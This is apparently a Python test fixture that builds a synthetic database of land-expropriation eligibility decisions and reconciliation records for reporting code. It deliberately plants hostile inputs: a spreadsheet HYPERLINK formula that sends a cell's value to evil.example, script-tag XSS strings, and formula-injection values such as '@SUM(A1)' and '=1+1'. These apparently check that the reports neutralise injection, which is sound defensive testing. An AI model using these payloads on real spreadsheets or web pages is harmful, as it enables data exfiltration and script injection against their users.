"""A made-up district of four streets with every outcome, laid on the tables that the other rooms would write."""

from __future__ import annotations

import random
from datetime import date

import duckdb
import pyarrow as pa

from reporting.reporting_policy import CONDITIONS, OUTCOMES, REASONS

PLACES = {
    "云桥街道": ("云桥社区", "上河社区", "石坝社区"),
    "青禾街道": ("青禾社区", "柳湾社区"),
    "白塔街道": ("白塔社区", "东门社区", "杨家营社区"),
    "月湖街道": ("月湖社区",),
}
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
HOSTILE_COMMUNITY = "<script>alert(1)</script>社区"
EARLIEST, LATEST = date(1, 1, 1), date(9999, 12, 31)

PROFILES = (
    # outcome, reasons, clauses refuted, clauses open, assumed parameters, weight
    ("eligible", "", "", "", "agreements_complete;most_land_line", 30),
    ("eligible", "", "", "", "minimum_age;most_land_line", 8),
    ("not_eligible", "most_land_lost", "most_land_lost", "", "agreements_complete;most_land_line", 9),
    ("not_eligible", "registered_member", "registered_member", "contract_right", "", 6),
    ("not_eligible", "not_public_staff", "not_public_staff", "", "", 2),
    ("register", "", "adult", "", "minimum_age", 7),
    ("manual_review", "missing_title_certificate", "", "contract_right", "", 16),
    ("manual_review", "missing_title_certificate;shared_compensation", "", "contract_right;most_land_lost", "", 8),
    ("manual_review", "approval_ambiguous", "", "approval_exists", "", 7),
    ("manual_review", "shared_compensation", "", "most_land_lost", "most_land_line", 9),
    ("manual_review", "approval_ambiguous;status_unknown", "", "approval_exists;not_public_staff", "", 3),
    ("manual_review", "substitute_title_only", "", "contract_right", "", 4),
    ("manual_review", "membership_disputed", "", "registered_member", "", 2),
    ("manual_review", "identity_invalid", "", "adult", "", 1),
)


def a_district(persons: int = 2_000) -> duckdb.DuckDBPyConnection:
    """A connection holding the schemas that reporting reads; the same on every call."""
    con = duckdb.connect()
    for schema in ("paper", "place", "link", "fact", "verdict", "decision"):
        con.execute(f"CREATE SCHEMA {schema}")
    decided = _decisions(persons)
    _lay(con, "decision.persons", decided)
    _lay(con, "verdict.persons", [{"row_id": d["row_id"], "profile_id": d["profile_id"]} for d in decided])
    _lay(con, "verdict.profiles", _profiles(decided))
    _lay(con, "fact.persons", [_facts(d) for d in decided])
    _lay(con, "paper.persons", [_paper_person(d) for d in decided])
    _lay_questions(con)
    _lay_reconciliation(con)
    _lay_disagreements(con)
    _lay_findings(con)
    _lay_identities(con)
    return con


def _lay(con: duckdb.DuckDBPyConnection, name: str, rows: list[dict[str, object]]) -> None:
    con.register("laid", pa.Table.from_pylist(rows))
    con.execute(f"CREATE TABLE {name} AS SELECT * FROM laid")
    con.unregister("laid")


def _lay_identities(con: duckdb.DuckDBPyConnection) -> None:
    """A household of two names on one roll, and a payee who is nobody's."""
    at = {"table_name": "payouts", "file": "兑付表.xlsx", "sheet": "一组", "first_row": 5, "rows": 1}
    home = {"household_id": "0000001", "community": "云桥社区", "group": "第1组", "head": HOSTILE_NAME}
    certain = {"evidence": "id_of_head", "certainty": "certain"}
    nobody = {"evidence": "any_of_place", "certainty": "nobody"}
    named = {"named_by": "payee_name", "value": HOSTILE_NAME}
    _lay(
        con,
        "place.identities",
        [
            dict.fromkeys(home) | {"named_by": "payee_id", "value": "短号"} | at | nobody,
            home | {"named_by": "payee_id", "value": "990000195001010011"} | at | certain,
            home | named | at | certain,
        ],
    )


def _decisions(persons: int) -> list[dict[str, object]]:
    dice = random.Random(20221031)
    weights = [profile[-1] for profile in PROFILES]
    homes = [(street, community) for street, all_of in PLACES.items() for community in all_of]
    decided = []
    for row in range(persons):
        street, community = homes[row * len(homes) // persons]
        number = dice.choices(range(len(PROFILES)), weights)[0]
        outcome, reasons, refuted, left_open, assumed, _ = PROFILES[number]
        named = [REASONS[code] for code in reasons.split(";") if code in REASONS]
        decided.append(
            {
                "row_id": row,
                "resident_id": f"990000{1950 + row % 55}{row % 12 + 1:02}{row % 28 + 1:02}{row % 1000:03}{row % 10}",
                "name": f"甲{row}",
                "household_id": f"0{row // 4:06}",
                "street": street,
                "community": community,
                "group": f"第{row // 4 % 5 + 1}组",
                "outcome": outcome,
                "regime": "km-reform",
                "reasons": reasons,
                "clauses_refuted": refuted,
                "clauses_open": left_open,
                "missing_evidence": ";".join(sorted({doc for _, docs, _ in named for doc in docs})),
                "settled_by": ";".join(sorted({body for _, _, bodies in named for body in bodies})),
                "assumed_parameters": assumed,
                "profile_id": f"p{number:03}",
            }
        )
    decided[0] |= {"name": HOSTILE_NAME, "outcome": "eligible", "reasons": "", "profile_id": "p000"}
    decided[1] |= {"name": "@SUM(A1)", "household_id": "-12", "group": "+1+2"}
    decided[-1] |= {"community": HOSTILE_COMMUNITY, "name": "<script>alert(2)</script>"}
    return decided


def _lay_questions(con: duckdb.DuckDBPyConnection) -> None:
    """One question for the same reason in the same group; `asks` as the questions of a real run would have it."""
    asks = {"missing_title_certificate": "certificate", "shared_compensation": "roll", "approval_ambiguous": "link",
            "status_unknown": "staff", "membership_disputed": "dispute", "identity_invalid": "identity"}  # fmt: skip
    said = [
        (code, title, asks.get(code, "other"), ";".join(docs), ";".join(bodies))
        for code, (title, docs, bodies) in REASONS.items()
    ]
    _lay(
        con,
        "reasons",
        [dict(zip(("reason", "title", "asks", "documents", "bodies"), row, strict=True)) for row in said],
    )
    con.execute(
        "CREATE TABLE waits AS SELECT row_id, community, \"group\" AS group_name, reason, asks || '-' || left(sha256(concat_ws('|', community, \"group\", reason)), 16) AS question_id"
        " FROM (SELECT *, unnest(string_split(reasons, ';')) AS reason FROM decision.persons WHERE outcome = 'manual_review') JOIN reasons USING (reason)"
    )
    con.execute("CREATE TABLE decision.person_questions AS SELECT row_id, question_id FROM waits ORDER BY ALL")
    con.execute(
        "CREATE TABLE decision.questions AS WITH alone AS (SELECT row_id FROM waits GROUP BY row_id HAVING count(*) = 1)"
        " SELECT question_id, upper(right(question_id, 6)) AS number, asks, 'document' AS kind, reason, CASE asks WHEN 'roll' THEN 'agreement' ELSE 'group' END AS subject_kind,"
        " concat_ws(' ', community, group_name) AS subject, community, group_name, title || '？' AS title, reason || '?' AS title_en,"
        " documents, bodies, CASE asks WHEN 'roll' THEN 26.06 END AS area_mu, count(*) AS persons_touched, count(*) FILTER (row_id IN (SELECT row_id FROM alone)) AS persons_settled"
        " FROM waits JOIN reasons USING (reason) GROUP BY ALL"
    )
    con.execute(
        "CREATE TABLE decision.question_households AS SELECT DISTINCT question_id, household_id"
        " FROM decision.questions JOIN waits USING (question_id) JOIN decision.persons USING (row_id)"
        " WHERE asks = 'roll' AND household_id IS NOT NULL ORDER BY ALL"
    )
    con.execute("DROP TABLE waits; DROP TABLE reasons")
    waits = [("bad_enum", 3, 2), ("ambiguous_place", 1, 40), ("no_approval", 2, 40)]
    _lay(con, "decision.finding_waits", [dict(zip(("code", "places", "persons"), row, strict=True)) for row in waits])


def _profiles(decided: list[dict[str, object]]) -> list[dict[str, object]]:
    found = []
    for number, (outcome, reasons, refuted, left_open, assumed, _) in enumerate(PROFILES):
        marks = {c: "refuted" if c in refuted else "open" if c in left_open else "proven" for c in CONDITIONS}
        persons = sum(1 for d in decided if d["profile_id"] == f"p{number:03}")
        rest = {
            "reasons": reasons,
            "clauses_refuted": refuted,
            "clauses_open": left_open,
            "assumed_parameters": assumed,
        }
        found.append(
            {"profile_id": f"p{number:03}", **marks, "persons": persons, "outcome": outcome, **rest, "trace": "…"}
        )
    assert set(OUTCOMES) == {row["outcome"] for row in found}
    return found


def _facts(decided: dict[str, object]) -> dict[str, object]:
    row = int(str(decided["row_id"]))
    return {"row_id": row, "remaining_per_head_lo": row * 1000, "remaining_per_head_hi": row * 2000, "officer": False}


def _paper_person(decided: dict[str, object]) -> dict[str, object]:
    kept = {key: decided[key] for key in ("row_id", "resident_id", "household_id", "street", "community")}
    return kept | {"state": "kept", "community_key": decided["community"]}


def _lay_reconciliation(con: duckdb.DuckDBPyConnection) -> None:
    lines, agreements, approvals, links = [], [], [], []
    statuses = ("covered", "ambiguous", "covered", "uncovered", "partly", "covered", "ambiguous", "not_expropriation")
    communities = [community for all_of in PLACES.values() for community in all_of]
    for row in range(60):
        status, area = statuses[row % len(statuses)], 12_345_678 + row * 1_000_001
        low = {"covered": area, "partly": area // 3}.get(status, 0)
        high = {"ambiguous": area * 2 // 3, "partly": low, "covered": area}.get(status, 0)
        dated = (date(2012, 3, 5), date(2014, 6, 1)) if high else (EARLIEST, LATEST)
        place = communities[row % len(communities)]
        lines.append(
            {
                "row_id": row,
                "agreement_no": f"协{row:03}",
                "agreement_key": f"a{row:03}",
                "land_class": "farmland",
                "community": place,
                "community_key": place,
                "group_name": f"第{row % 5 + 1}组",
                "kind": "lease" if status == "not_expropriation" else "expropriation",
                "area_umu": area,
                "covered_umu_min": low,
                "covered_umu_max": high,
                "approved_lo": dated[0],
                "approved_hi": dated[1],
                "status": status,
            }
        )
        agreements.append({"agreement_key": f"a{row:03}", "community_key": place})
        approvals.append({"row_id": 59 - row, "approval_key": f"b{row:03}"})
        links += [_link(row, partner, low, high) for partner in ((row, (row + 1) % 60) if high else ())]
    _lay(con, "link.coverage", lines)
    _lay(con, "link.links", list(reversed(links)))
    counts = {"agreements": 1, "parcels": 2, "edges": 2, "method": "separate", "seconds_limit_hit": False}
    _lay(con, "link.components", [{"component": row, **counts} for row in range(60)])
    _lay(con, "paper.agreements", agreements)
    _lay(con, "paper.approvals", approvals)


def _link(row: int, partner: int, low: int, high: int) -> dict[str, object]:
    return {
        "agreement_key": f"a{row:03}",
        "agreement_no": f"协{row:03}",
        "land_class": "farmland",
        "approval_no": f"云国土资复〔2012〕{partner}号",
        "approval_key": f"b{partner:03}",
        "area_umu_min": low if partner == row else 0,
        "area_umu_max": high,
        "certainty": "certain" if low and partner == row else "possible",
        "score": 0.75,
        "evidence": "地点相符；面积相等",
        "component": row,
        "proposed": "first" if partner == row else "",
        "proposed_umu": high if partner == row else 0,
        "judged_by": "",
    }


def _lay_disagreements(con: duckdb.DuckDBPyConnection) -> None:
    """Findings between approvals and agreements: two of one kind, one of another, none of a third."""
    titles = {"no_approval": "查无批文", "over_expropriated": "超征", "taken_twice": "重复征收"}
    kinds = [
        {"place": n, "code": code, "title": title, "title_en": code, "meaning": title, "meaning_en": code,
         "remedy": "请核对", "remedy_en": "check"}
        for n, (code, title) in enumerate(titles.items())
    ]  # fmt: skip
    found = [
        {"code": code, "agreement_no": agreement, "land_class": "farmland", "approval_no": approval, "community": "乌龙社区",
         "group_name": "第1组", "area_umu": 20_000_050, "other_umu": 10_000_049, "day": date(2012, 3, 5), "other_day": None,
         "evidence": "citation_blank", "problem": "查无批文", "remedy": "请核对", "problem_en": "none", "remedy_en": "check"}
        for code, agreement, approval in (
            ("over_expropriated", "协001", "云国土资复〔2012〕1号"), ("no_approval", "协002", None), ("no_approval", "=协001", None),
        )
    ]  # fmt: skip
    _lay(con, "link.finding_kinds", kinds)
    _lay(con, "link.findings", found)


def _lay_findings(con: duckdb.DuckDBPyConnection) -> None:
    from eligibility.model.tables import TABLES

    absent = {"persons": {"officer"}}
    _lay(
        con,
        "paper.tables",
        [
            {
                "table_name": table.key,
                "present": table.key not in ("confirmations", "contract_ledger"),
                "columns": [c.key for c in table.columns if c.key not in absent.get(table.key, ())],
            }
            for table in TABLES
        ],
    )
    found = (
        ("agreements", "协议.xlsx", "Sheet1", 9, "area", "-3.5", "bad_number", False),
        ("agreements", "协议.xlsx", "Sheet1", 4, "area", "=1+1", "bad_number", False),
        ("persons", "花名册.csv", "", 12, "member_from", "去年", "bad_date", True),
        ("persons", "花名册.csv", "", 12, "resident_id", "99000019700101001", "identity_invalid", True),
        ("persons", "花名册.csv", "", 700, "", "", "duplicate_row", False),
    )
    keys = ("table_name", "file", "sheet", "row", "col", "value", "code", "kept")
    said = {"problem": "读不出", "remedy": "请核对原件", "problem_en": "unreadable", "remedy_en": "check the paper"}
    _lay(con, "paper.quarantine", [dict(zip(keys, row, strict=True)) | said for row in found])
    _lay(con, "paper.sources", [{"source": 7, "file": "填好.xlsx", "sheet": "核查清单"}])
    answers = [
        (3, "staff", "否（人力资源社会保障部门）", "set"),
        (9, "link", "云国土资复〔2012〕1号（自然资源部门）", "conflict"),
    ]
    keys = ("row_id", "source", "row", "asks", "said", "effect")
    _lay(
        con,
        "paper.answers",
        [dict(zip(keys, (n, 7, row, *words), strict=True)) for n, (row, *words) in enumerate(answers)],
    )
